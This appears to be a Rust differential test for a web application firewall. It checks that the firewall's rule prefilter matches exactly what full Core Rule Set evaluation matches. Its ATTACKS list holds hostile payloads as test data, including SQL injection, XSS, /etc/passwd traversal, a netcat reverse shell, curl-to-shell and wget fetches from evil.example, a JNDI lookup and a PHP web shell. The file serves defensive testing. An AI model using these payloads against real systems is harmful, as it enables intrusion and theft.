//! The rule prefilter changes nothing but speed: requests of our own making (thousands,
//! attacks and benign, in arguments, names, headers, cookies, paths, JSON and forms),
//! and every request of the CRS regression suite, are evaluated by the full CRS twice,
//! once as the engine runs and once with the prefilter off (every rule on every value),
//! and must give the same interventions, the same matched rules in the same order, and
//! the same anomaly scores.
mod common;
mod ftw;

use palisade_inspect::{
    ConnInfo, Intervention, LoadOptions, MatchedRule, RECOMMENDED_BASE_RULES, RequestHead, RuleSet,
};
use std::path::Path;
use std::sync::Arc;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1; DROP TABLE users",
    "admin'--",
    "' or 1=1#",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "'; EXEC xp_cmdshell('dir')--",
    "1' waitfor delay '0:0:5'--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">",
    "\"><body onload=alert('x')>",
    "<a href=\"vbscript:msgbox(1)\">",
    "expression(alert(1))",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh|sh)",
    "`id`",
    "&& wget http://evil.example/a",
    "powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "${jndi:ldap://evil.example/a}",
    "${7*7}",
    "{{7*7}}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "require('child_process').exec('id')",
    "__proto__[admin]=1",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    "%0d%0aSet-Cookie:%20x=1",
    "\r\nLocation: http://evil.example",
    "() { :; }; /bin/bash -c id",
    "<!--#exec cmd=\"ls\"-->",
    "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
    "eval(String.fromCharCode(97,108,101,114,116))",
    "SELECT * FROM users WHERE id=1",
    "1 or benchmark(10000000,MD5(1))",
    "'||(select extractvalue(xmltype('<x/>'),'/l') from dual)||'",
    "db.users.find({$where: 'sleep(100)'})",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "%{(#_='multipart/form-data')}",
];

const BENIGN: &[&str] = &[
    "red",
    "42",
    "price_asc",
    "Jane Doe",
    "jane.doe@example.com",
    "Trail running shoe model 7",
    "waterproof trail running shoes",
    "12 Main St, Berlin",
    "SKU-00042",
    "2024-05-01T10:00:00Z",
    "Leave at the back door, please.",
    "O'Brien",
    "rock & roll",
    "50% off",
    "C:\\Users\\jane",
    "a+b=c",
    "https://shop.example.com/catalog?page=3",
    "select your size",
    "drop-down menu",
    "union station",
    "<b>bold</b> text",
    "I'd like 2-3 items; thanks!",
    "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
    "{\"nested\":true}",
    "()",
    "--",
    "",
    "=",
    "ÄÖÜ straße",
    "\u{2019}quoted\u{2019}",
];

const NAMES: &[&str] = &[
    "q", "id", "page", "sort", "color", "user", "email", "comment", "file", "redirect", "url",
    "search", "name", "data", "cmd", "callback", "lang", "token",
];

fn url_encode(s: &str, all: bool) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if !all && (b.is_ascii_alphanumeric() || b"-_.~".contains(&b)) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// A value of one family, possibly disguised the ways attackers and browsers do.
fn value(rng: &mut Rng) -> String {
    let base = if rng.below(2) == 0 {
        rng.pick(ATTACKS).to_string()
    } else {
        rng.pick(BENIGN).to_string()
    };
    match rng.below(9) {
        0 => base.to_uppercase(),
        1 => base
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect(),
        2 => base.replace(' ', "/**/"),
        3 => base.replace('<', "&lt;").replace('>', "&gt;"),
        4 => url_encode(&base, true),
        5 => base.replace(' ', "\t"),
        6 => format!("{base}\u{0}"),
        7 => format!("x {base} y"),
        _ => base,
    }
}

fn head(method: &str, uri: String, headers: Vec<(String, Vec<u8>)>) -> RequestHead {
    let mut all = vec![
        ("Host".to_string(), b"shop.example.com".to_vec()),
        (
            "User-Agent".to_string(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0".to_vec(),
        ),
        ("Accept".to_string(), b"text/html,*/*;q=0.8".to_vec()),
    ];
    all.extend(headers);
    RequestHead {
        method: method.into(),
        uri,
        protocol: "HTTP/1.1".into(),
        headers: all,
    }
}

fn json_string(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

/// One generated request of family `n % 8`.
fn request(rng: &mut Rng, n: usize) -> (RequestHead, Vec<u8>) {
    let args = |rng: &mut Rng, k: usize| -> String {
        (0..k)
            .map(|_| {
                let name = rng.pick(NAMES);
                format!("{name}={}", url_encode(&value(rng), false))
            })
            .collect::<Vec<_>>()
            .join("&")
    };
    match n % 8 {
        // Query arguments.
        0 => {
            let k = 1 + rng.below(5);
            let q = args(rng, k);
            (
                head("GET", format!("/catalog/items?{q}"), vec![]),
                Vec::new(),
            )
        }
        // An argument name carries the payload.
        1 => {
            let v = value(rng);
            let q = format!("{}=1&page=2", url_encode(&v, false));
            (head("GET", format!("/search?{q}"), vec![]), Vec::new())
        }
        // Path.
        2 => {
            let v = url_encode(&value(rng), false);
            (head("GET", format!("/files/{v}"), vec![]), Vec::new())
        }
        // Headers.
        3 => {
            let name = [
                "Referer",
                "X-Forwarded-For",
                "X-Custom-Header",
                "User-Agent",
            ][rng.below(4)];
            let v = value(rng).into_bytes();
            (
                head("GET", "/".into(), vec![(name.to_string(), v)]),
                Vec::new(),
            )
        }
        // Cookies, values and names.
        4 => {
            let c = format!(
                "session=8f14e45fceea; {}={}",
                url_encode(rng.pick(NAMES), false),
                url_encode(&value(rng), false)
            );
            (
                head(
                    "GET",
                    "/account".into(),
                    vec![("Cookie".into(), c.into_bytes())],
                ),
                Vec::new(),
            )
        }
        // JSON body.
        5 => {
            let items: Vec<String> = (0..1 + rng.below(6))
                .map(|_| {
                    format!(
                        "{{\"sku\":{},\"{}\":{}}}",
                        json_string(&value(rng)),
                        rng.pick(NAMES),
                        json_string(&value(rng))
                    )
                })
                .collect();
            let body = format!(
                "{{\"customer\":{{\"name\":{}}},\"items\":[{}]}}",
                json_string(&value(rng)),
                items.join(",")
            );
            (
                head(
                    "POST",
                    "/api/orders".into(),
                    vec![
                        ("Content-Type".into(), b"application/json".to_vec()),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
        // Urlencoded form.
        6 => {
            let k = 1 + rng.below(20);
            let body = args(rng, k);
            (
                head(
                    "POST",
                    "/account/profile".into(),
                    vec![
                        (
                            "Content-Type".into(),
                            b"application/x-www-form-urlencoded".to_vec(),
                        ),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
        // Multipart form with a field and a file.
        _ => {
            let body = format!(
                "--b0undary\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{}\r\n--b0undary\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{}\"\r\nContent-Type: text/plain\r\n\r\n{}\r\n--b0undary--\r\n",
                rng.pick(NAMES),
                value(rng),
                ["report.txt", "shell.php", "a.jsp", "notes.txt"][rng.below(4)],
                value(rng)
            );
            (
                head(
                    "POST",
                    "/upload".into(),
                    vec![
                        (
                            "Content-Type".into(),
                            b"multipart/form-data; boundary=b0undary".to_vec(),
                        ),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
    }
}

/// Everything a transaction decided, in order.
#[derive(Debug, PartialEq)]
struct Outcome {
    interventions: Vec<Option<Intervention>>,
    matched: Vec<MatchedRule>,
    scores: Vec<Option<Vec<u8>>>,
}

fn evaluate(rs: &Arc<RuleSet>, head: &RequestHead, body: &[u8], prefilter: bool) -> Outcome {
    let mut tx = rs.transaction(ConnInfo {
        client_ip: "192.0.2.7".into(),
        client_port: 51000,
        server_ip: "192.0.2.1".into(),
        server_port: 8080,
        unique_id: "differential".into(),
    });
    if !prefilter {
        tx.disable_prefilter();
    }
    let interventions = vec![
        tx.process_request_headers(head),
        tx.process_request_body(body),
        tx.process_response_headers(
            200,
            "HTTP/1.1",
            &[("Content-Type".into(), b"text/html".to_vec())],
        ),
        tx.process_response_body(b"<html><body>ok</body></html>"),
    ];
    tx.process_logging();
    let scores = [
        "blocking_inbound_anomaly_score",
        "detection_inbound_anomaly_score",
        "inbound_anomaly_score_pl1",
        "sql_injection_score",
        "xss_score",
    ]
    .iter()
    .map(|v| tx.tx_var(v).map(<[u8]>::to_vec))
    .collect();
    Outcome {
        interventions,
        matched: tx.matched_rules().to_vec(),
        scores,
    }
}

fn load(crs: &Path, prelude: String, setup: Option<&Path>) -> Arc<RuleSet> {
    let mut files = vec![crs.join("crs-setup.conf.example")];
    files.extend(setup.map(Path::to_path_buf));
    files.push(crs.join("rules/*.conf"));
    Arc::new(
        RuleSet::load(&LoadOptions {
            prelude,
            files,
            ..Default::default()
        })
        .unwrap_or_else(|e| panic!("CRS failed to load: {e}")),
    )
}

/// Replays `requests` both ways; returns (requests with a match, requests blocked).
fn compare(rs: &Arc<RuleSet>, requests: &[(RequestHead, Vec<u8>)], what: &str) -> (usize, usize) {
    let mut diffs = Vec::new();
    let (mut matched, mut blocked) = (0, 0);
    for (head, body) in requests {
        let fast = evaluate(rs, head, body, true);
        let reference = evaluate(rs, head, body, false);
        matched += usize::from(!fast.matched.is_empty());
        blocked += usize::from(fast.interventions.iter().any(Option::is_some));
        if fast != reference {
            let ids = |o: &Outcome| o.matched.iter().map(|m| m.id).collect::<Vec<_>>();
            diffs.push(format!(
                "{} {} body {:?}: prefilter {:?} vs reference {:?}",
                head.method,
                head.uri,
                String::from_utf8_lossy(body),
                ids(&fast),
                ids(&reference)
            ));
        }
    }
    assert!(
        diffs.is_empty(),
        "{what}: {} of {} requests differ with the prefilter, e.g.:\n{}",
        diffs.len(),
        requests.len(),
        diffs[..diffs.len().min(10)].join("\n")
    );
    (matched, blocked)
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_generated_requests() {
    let Some(crs) = common::crs4() else { return };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let requests: Vec<(RequestHead, Vec<u8>)> = (0..1600).map(|n| request(&mut rng, n)).collect();
    for pl in [1, 4] {
        let prelude = format!(
            "{RECOMMENDED_BASE_RULES}\nSecAction \"id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={pl}\"\n"
        );
        let rs = load(&crs, prelude, None);
        // PL4 evaluates every rule PL1 does and more; PL1 sees a smaller share.
        let share = if pl == 1 {
            &requests[..800]
        } else {
            &requests[..]
        };
        let (matched, blocked) = compare(&rs, share, &format!("PL{pl}"));
        // The corpus must exercise the rules: attacks match and get blocked, not all do.
        assert!(
            matched > share.len() / 3 && blocked > share.len() / 5 && blocked < share.len(),
            "PL{pl}: {matched} of {} requests matched a rule, {blocked} blocked",
            share.len()
        );
    }
}

/// Half of the CRS regression suite's requests (files alternate), both ways; two tests
/// so that each stays well inside the per-test time limit.
fn compare_crs_regression_half(half: usize) {
    let Some(crs) = common::crs4() else { return };
    let data = common::repo_root().join("inspect/tests/data");
    let rs = load(
        &crs,
        RECOMMENDED_BASE_RULES.to_string(),
        Some(&data.join("crs-v4-regression-setup.conf")),
    );
    let mut requests = Vec::new();
    let files = ftw::test_files(&crs.join("tests/regression/tests"));
    for file in files.iter().skip(half).step_by(2) {
        for case in ftw::parse_file(file) {
            requests.extend(case.requests());
        }
    }
    assert!(
        requests.len() > 1500,
        "only {} requests in this half of the suite",
        requests.len()
    );
    let (matched, _) = compare(&rs, &requests, "CRS regression suite");
    assert!(
        matched > requests.len() / 2,
        "{matched} of {} matched",
        requests.len()
    );
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_crs_regression_requests_1() {
    compare_crs_regression_half(0);
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_crs_regression_requests_2() {
    compare_crs_regression_half(1);
}
